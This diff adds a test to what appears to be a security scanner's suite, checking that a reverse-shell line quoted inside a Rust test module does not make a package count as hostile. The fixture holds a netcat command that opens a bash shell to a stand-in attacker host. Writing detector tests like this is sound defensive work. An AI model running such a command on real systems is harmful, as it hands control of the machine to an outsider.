@@ -261,3 +261,14 @@ test('translations that end like TypeScript are none', async () => {
   );
   assert.deepEqual(coverage.skipped, []);
 });
+
+test('an attack that a test of Rust quotes makes no package hostile', async () => {
+  const quoted = 'let command = "nc -e /bin/bash attacker.com 4444";';
+  const { findings, score } = await scan(
+    memoryTree({
+      'src/scanner.rs': `fn a() {}\n\n#[cfg(test)]\nmod tests {\n    fn b() {\n        ${quoted}\n    }\n}\n`,
+    }),
+  );
+  assert.ok(findings.every(({ context }) => context === 'test'));
+  assert.ok(score > 89);
+});
